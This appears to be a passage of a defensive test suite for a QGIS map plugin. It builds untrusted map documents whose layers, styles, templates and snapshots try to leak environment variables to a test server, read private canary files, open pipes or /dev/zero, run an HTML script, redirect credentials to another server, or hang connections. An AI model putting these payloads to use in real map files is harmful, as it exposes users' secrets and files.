        "${{x}}/${{y}}.png</ServerUrl></Service><DataWindow><UpperLeftX>-180</UpperLeftX><UpperLeftY>90</UpperLeftY>"
        "<LowerRightX>180</LowerRightX><LowerRightY>-90</LowerRightY><TileLevel>9</TileLevel><YOrigin>top</YOrigin>"
        "</DataWindow><Projection>EPSG:4326</Projection><BandsCount>3</BandsCount></GDAL_WMS>",
        "raster on the web by its driver": 'ZARR:"/vsicurl/{0}/a.zarr"', "catalogue of images": 'STACIT:"{0}/a.json"',
        "OGC API raster by GDAL": "OGCAPI:{0}/ogcapi", "PostGIS raster by GDAL":
        "PG:host=127.0.0.1 port={1} user=a dbname=a schema=s table=t", "VRT raster in the source over the web":
        "<VRTDataset rasterXSize='9' rasterYSize='9'><VRTRasterBand dataType='Byte' band='1'><SimpleSource>"
        "<SourceFilename>/vsicurl/{0}/a.tif</SourceFilename></SimpleSource></VRTRasterBand></VRTDataset>",
    }
    for name, source in raster.items():
        yield name, _source(lambda ground, source=source: source.format(ground.server, ground.port), "gdal", "raster")

    def web_vrt(name: str, content: str) -> Callable[[Ground], str]:
        def write(ground: Ground) -> str:
            (ground.folder / name).write_text(content.format(ground.server), "utf-8")
            return name
        return write

    yield "VRT with the name of a GeoPackage over the web", _source(web_vrt("datos.gpkg", vector[
        "VRT in the source over the web"]))
    yield "WMS file with the name of a TIFF", _source(web_vrt("datos.tif", raster["WMS by GDAL in XML"]), "gdal",
                                                     "raster")
    yield "TIFF with overviews on the web", _source(
        lambda ground: _raster(ground.folder / "a.tif", overview=f"/vsicurl/{ground.server}/o.tif").name, "gdal",
        "raster")
    yield "GeoPackage with overviews on the web", _source(
        lambda ground: _raster(ground.folder / "a.gpkg", "GPKG", f"/vsicurl/{ground.server}/o.tif").name, "gdal",
        "raster")
    yield "mesh on the web", _source(lambda ground: f'UGRID:"/vsicurl/{ground.server}/a.nc"', "mdal", "mesh")
    yield "database", _of(lambda ground: connection(ground, "postgres", ""), asks=True)
    yield "database by a service file", _of(
        lambda ground: own("service='canary' key='id' table=\"t\" (geom)", "postgres"))


def _led_elsewhere() -> Iterator[tuple[str, Row]]:
    """Layers of a server that was agreed to, which leads to another one, the one that the login is for."""
    def images_elsewhere(ground: Ground) -> Mapping[str, bytes]:
        return {"/wms": re.sub("<GetMap>.*?</GetMap>", lambda found: found[0].replace(
            ground.server, ground.login_server), network_faults.capabilities(ground.server), flags=re.DOTALL).encode()}

    plain = "layers=rios&styles=&format=image/png&crs=EPSG:4326"
    for option in ("TYPE=xyz", "type=XYZ", "tilematrixset=a"):
        yield f"images elsewhere, with {option}", Row(lambda ground, option=option: in_json(ground, document(own(
            f"{option}&url={ground.server}/wms?&{plain}", "wms", "raster"))), asks=True, served=images_elsewhere)

    def features(ground: Ground) -> Path:
        return in_json(ground, document(own(f"url='{ground.server}/oapif' typename='rios'", "OAPIF")))

    def answers(write: Callable[[Any], str], landing: Callable[[Ground], str], next_page: bool = False
                ) -> Callable[[Ground], Mapping[str, bytes]]:
        return lambda ground: _features_api(ground.server, write(_links(landing(ground))),
                                            f"{ground.login_server}/next" if next_page else "")

    def far(value: Any) -> str:
        return " " * 2_100_000 + json.dumps(value)

    def among_braces(value: Any) -> str:
        return json.dumps({"links": [{"rel": link["rel"], "title": "}{", **link} for link in value["links"]]})

    for name, write in (("escaped", lambda value: json.dumps(value).replace("/", "\\/")), ("far behind", far),
                        ("among braces", among_braces)):
        yield f"features elsewhere, {name}", Row(features, asks=True, served=answers(
            write, lambda ground: ground.login_server))
    yield "next page of features elsewhere", Row(features, asks=True, served=answers(
        json.dumps, lambda ground: ground.server, next_page=True))


def _links(server: str) -> dict[str, Any]:
    return {"links": [{"rel": rel, "type": kind, "href": f"{server}/oapif/{name}"} for rel, kind, name in (
        ("data", "application/json", "collections"), ("conformance", "application/json", "conformance"),
        ("service-desc", "application/vnd.oai.openapi+json;version=3.0", "api"))]}


def _features_api(server: str, landing: str, next_page: str) -> Mapping[str, bytes]:
    """The answers of a server of OGC API - Features with ten points, and the address of the next ones."""
    collection = {"id": "rios", "title": "Ríos", "extent": {"spatial": {"bbox": [[-4, 38, -3, 39]]}}, "links": [
        {"rel": "items", "type": "application/geo+json", "href": f"{server}/oapif/collections/rios/items"}]}
    items = {"type": "FeatureCollection", "numberMatched": 50, "numberReturned": 10, "features": [
        {"type": "Feature", "id": str(number), "properties": {"word": "nada"},
         "geometry": {"type": "Point", "coordinates": PLACE}} for number in range(10)],
        "links": [{"rel": "next", "type": "application/geo+json", "href": next_page}] if next_page else []}
    limit = {"schema": {"maximum": 10, "default": 10}}
    found: dict[str, Any] = {
        "/conformance": {"conformsTo": ["http://www.opengis.net/spec/ogcapi-features-1/1.0/conf/core"]},
        "/api": {"openapi": "3.0.0", "components": {"parameters": {"limit": limit}}},
        "/collections": {"collections": [collection], "links": []}, "/collections/rios": collection,
        "/collections/rios/items": items}
    return {"/oapif": landing.encode(), "/oapif/": landing.encode(),
            **{f"/oapif{path}": json.dumps(answer).encode() for path, answer in found.items()}}


def logins() -> Iterator[tuple[str, Row]]:
    """Own layers that name the login of another server."""
    for provider in ("xyz", "wms", "wfs", "oapif", "feature server", "map server", "wcs", "vector tiles", "postgres"):
        yield f"login of another server, {provider}", _of(
            lambda ground, provider=provider: connection(ground, provider), asks=True)
    yield "login of another server, file on the web", _source(
        lambda ground: f"/vsicurl/{ground.server}/a.geojson authcfg='{AUTHCFG}'")


def styles() -> Iterator[tuple[str, Row]]:
    """Styles of data beside the map."""
    for name, expression in SECRETS.items():
        yield f"label with: {name}", _of(lambda ground, expression=expression: points_with(
            ground, label_style(expression)))
        word = LAYER if "layer" in name else VARIABLE if "person" in name or "its name" in name else ENVIRONMENT
        yield f"colour by: {name}", _of(lambda ground, expression=expression, word=word: points_with(
            ground, colour_style(is_word(expression, word))))
    environment = SECRETS["environment variable"]
    condition = is_word(environment, ENVIRONMENT)
    made: dict[str, Callable[[Ground], str]] = {
        "rule by a variable": lambda ground: rule_style(condition),
        "virtual field with a variable": lambda ground: field_style(environment),
        "shape by a variable": lambda ground: generator_style(f"if({condition}, buffer($geometry, 0.01), NULL)"),
        "picture on the web": lambda ground: picture_style(f"{ground.server}/a.svg"),
        "picture elsewhere": lambda ground: picture_style(str(ground.private / "canary.svg")),
        "picture elsewhere by an address": lambda ground: picture_style(f"file://{ground.private / 'canary.svg'}"),
        "picture on a network share": lambda ground: picture_style(f"/{ground.private / 'canary.svg'}"),
        "raster picture on the web": lambda ground: raster_style(f"{ground.server}/a.png"),
        "raster picture elsewhere": lambda ground: raster_style(str(ground.private / "canary.png")),
        "picture in the style that names another": lambda ground: picture_style("base64:" + _linking_svg(ground)),
        "label before a picture on the web": lambda ground: label_style("'a'", f"{ground.server}/a.svg"),
        "label before a picture elsewhere": lambda ground: label_style("'a'", str(ground.private / "canary.svg")),
        "counter in a database elsewhere": lambda ground: label_style(
            f"sqlite_fetch_and_increment('{ground.private / 'canary.gpkg'}', 't', 'fid', 'fid', 1, map())"),
        "file's existence": lambda ground: colour_style(f"file_exists('{ground.private / 'canary.csv'}')"),
        "file's size": lambda ground: colour_style(f"file_size('{ground.private / 'canary.csv'}') > 0"),
        "picture's camera": lambda ground: colour_style(f"exif('{ground.private / 'canary.png'}') is not null"),
        "layer opened by an expression": lambda ground: label_style(
            f"aggregate(load_layer('{ground.private / 'canary.geojson'}', 'ogr'), 'concatenate', \"word\")"),
        "form and action in Python": python_style,
        "map tip": tip_style,
    }
    for name, make in made.items():
        yield name, _of(lambda ground, make=make: points_with(ground, make(ground)))


def _linking_svg(ground: Ground) -> str:
    import base64

    return base64.b64encode((
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">'
        f'<image width="9" height="9" xlink:href="{ground.private / "canary.png"}"/><image width="9" height="9" '
        f'xlink:href="{ground.server}/a.png"/></svg>').encode()).decode()


def other_members() -> Iterator[tuple[str, Row]]:
    """What else a map names: a template, photos, a snapshot, texts, a server that has a login."""
    def page(**members: Any) -> Callable[[Ground], Path]:
        return lambda ground: in_json(ground, document(points_with(ground, ""), page={
            "paper": "A4", "orientation": "landscape", "template": "guide",
            **{name: make(ground) if callable(make) else make for name, make in members.items()}}))

    yield "template elsewhere with expressions", Row(page(template=_template))
    yield "template that is a pipe", Row(page(template=lambda ground: _pipe(ground.folder / "a.qpt")))
    texts = {"visitor_text": "Hola", "table": [{"own_layer": "ajena0"}]}
    for name, path in (("terminal", "/dev/ptmx"), ("device of zeros", "/dev/zero")):
        yield f"photo that is a {name}", Row(page(paper="A3", template="leaflet", leaflet={
            **texts, "photos": [{"path": path, "text": "a", "credit": "b"}]}))
    yield "photo elsewhere", Row(page(paper="A3", template="leaflet", leaflet=lambda ground: {
        **texts, "photos": [{"path": str(ground.private / "canary.png"), "text": "a", "credit": "b"}]}))
    yield "photo that is a pipe", Row(page(paper="A3", template="leaflet", leaflet=lambda ground: {
        **texts, "photos": [{"path": _pipe(ground.folder / "a.jpg"), "text": "a", "credit": "b"}]}))
    for name, path in (("pipe", ""), ("device", "/dev")):
        yield f"snapshot in a {name}", Row(lambda ground, path=path: in_json(ground, document(
            points_with(ground, ""), snapshot={"path": path or _pipe(ground.folder / "snapshot"), "in_use": True})))
    expression = f"[% {SECRETS['environment variable']} %]"
    yield "expressions in texts", Row(lambda ground: in_json(ground, document(
        {**points_with(ground, ""), "name": f"Capa {expression}", "credit": f"Fuente {expression}",
         "legend": {"texts": {"es": expression}}}, title=f"Mapa {expression}")))

    def elsewhere(ground: Ground) -> Path:
        return in_json(ground, document(base={
            "record_id": None, "endpoint": f"{ground.login_server}/wms?", "title": "Servicio", "layers": ["rios"],
            "styles": [""], "format": "image/png", "opacity": 1, "visible": True,
            "credit": {"line": "Fuente", "required": "yes"}}))

    yield "service with a login whose images are elsewhere", Row(elsewhere, asks=True, both=True)
    yield "snapshot with a record and capabilities of another's service", Row(_snapshot_of_another)
    for name, driver, kind in (("TIFF", "GTiff", RasterFormat.COG), ("GeoPackage", "GPKG", RasterFormat.GPKG)):
        yield f"snapshot's {name} with overviews on the web", Row(
            lambda ground, driver=driver, kind=kind: _snapshot_raster(ground, driver, kind))


def _snapshot_of_another(ground: Ground) -> Path:
    """A snapshot of the year 2099 with a record and capabilities of a bundled service that free it of every duty."""
    service = BUNDLED_SERVICE.rstrip("?")
    record = BUNDLED.read_text("utf-8").replace('<gmd:dateStamp gco:nilReason="unknown"/>', (
        "<gmd:dateStamp><gco:Date>2099-01-01</gco:Date></gmd:dateStamp>")).replace(
            "Este servicio se puede usar de modo libre y gratuito siempre que se mencione a los autores y propietarios "
            "de la información", "No se aplican condiciones de acceso y uso. No es necesario citar la fuente.")
    files = {"records/01.xml": (FileRole.RECORD, record),
             "capabilities/01.xml": (FileRole.CAPABILITIES, network_faults.capabilities(service))}
    for name, (_role, text) in files.items():
        (ground.folder / name).parent.mkdir()
        (ground.folder / name).write_text(text, "utf-8")
    return in_folder(ground, document(points_with(ground, "")), {
        name: (role, BUNDLED_SERVICE) for name, (role, _text) in files.items()}, made="2099-01-01T10:00:00+00:00")


def _pipe(path: Path) -> str:
    os.mkfifo(path)
    return str(path)


def _template(ground: Ground) -> str:
    """A template with a label, a data-defined picture and an HTML frame that tell what they can."""
    from qgis.core import (
        QgsLayoutFrame,
        QgsLayoutItemHtml,
        QgsLayoutItemLabel,
        QgsLayoutItemPicture,
        QgsLayoutObject,
        QgsPrintLayout,
        QgsProject,
        QgsReadWriteContext,
    )
    from qgis.PyQt.QtCore import QRectF

    from plugin.gis.layouts.template_loading import load_template

    environment = SECRETS["environment variable"]
    bundled = sorted((RESOURCES / "templates").glob("guide*landscape*.qpt")) or sorted(
        (RESOURCES / "templates").glob("*.qpt"))
    layout: QgsPrintLayout = load_template(QgsProject.instance(), bundled[0])
    label = QgsLayoutItemLabel(layout)
    label.setText(f"[% {environment} %] [% @{VARIABLE_NAME} %]")
    label.attemptSetSceneRect(QRectF(20, 20, 90, 20))
    picture = QgsLayoutItemPicture(layout)
    picture.dataDefinedProperties().setProperty(
        QgsLayoutObject.DataDefinedProperty.PictureSource,
        QgsProperty.fromExpression(f"'{ground.server}/' || {environment} || '.png'"))
    picture.attemptSetSceneRect(QRectF(20, 50, 20, 20))
    for item in (label, picture):
        layout.addLayoutItem(item)
    page = QgsLayoutItemHtml(layout)
    layout.addMultiFrame(page)
    page.setContentMode(QgsLayoutItemHtml.ContentMode.ManualHtml)
    page.setHtml(f"<img src='{ground.server}/frame.png'><script>document.write(1)</script>[% {environment} %]")
    frame = QgsLayoutFrame(layout, page)
    frame.attemptSetSceneRect(QRectF(20, 80, 40, 20))
    page.addFrame(frame)
    path = ground.folder / "ajena.qpt"
    assert layout.saveAsTemplate(str(path), QgsReadWriteContext())
    return str(path)


def _snapshot_raster(ground: Ground, driver: str, kind: RasterFormat) -> Path:
    name = "map.tif" if kind is RasterFormat.COG else "map.gpkg"
    _raster(ground.folder / name, driver, f"/vsicurl/{ground.server}/o.tif",
            ("RASTER_TABLE=t",) if kind is RasterFormat.GPKG else ())
    (ground.folder / "capabilities").mkdir()
    (ground.folder / "capabilities" / "01.xml").write_text(
        network_faults.capabilities("http://mapas.invalid").replace("\n", ""), "utf-8")
    entry = {"record_id": None, "endpoint": SERVICE, "title": "Servicio", "layers": ["rios"], "styles": [""],
             "format": "image/png", "opacity": 1, "visible": True, "credit": {"line": "Fuente", "required": "yes"}}
    layer = SnapshotLayer(SERVICE, "rios", "", "Ríos", "Servicio", "EPSG:4326", name,
                          "t" if kind is RasterFormat.GPKG else "", "Fuente", "", (25000.0,))
    return in_folder(ground, document(base=entry), {name: (FileRole.RASTER, ""),
                                                   "capabilities/01.xml": (FileRole.CAPABILITIES, SERVICE)}, (layer,),
                     kind)


def _slow() -> Iterator[tuple[str, Row]]:
    """What would never end."""
    for fault in ("hang", "drip", "stream"):
        for provider in ("wms", "wfs", "oapif", "feature server", "map server", "wcs"):
            def make(ground: Ground, provider: str = provider, fault: str = fault) -> Mapping[str, Any]:
                served = connection(ground, provider, "")
                return {**served, "source": served["source"].replace(ground.server, f"{ground.server}/{fault}")}
            yield f"{provider} of a server that {_FAULTS[fault]}", _of(make, asks=True)
    yield "label without end", _of(lambda ground: points_with(ground, label_style(ENDLESS)))
    yield "colour without end", _of(lambda ground: points_with(ground, colour_style(f"{ENDLESS} > 0")))
    yield "rule without end", _of(lambda ground: points_with(ground, rule_style(f"{ENDLESS} > 0")))


_FAULTS = {"hang": "is silent", "drip": "drips", "stream": "never stops"}
ROWS: Mapping[str, Row] = rows()


# -- sound maps, which open as ever


def sound_file(ground: Ground) -> Path:
    """Points beside the map, with a label and a rule that read their own fields."""
    return in_json(ground, document(points_with(ground, label_style('upper("word")'))))


def sound_service(ground: Ground) -> Path:
    """Tiles of a server, which open after one question."""
    return in_json(ground, document(connection(ground, "xyz", "")))
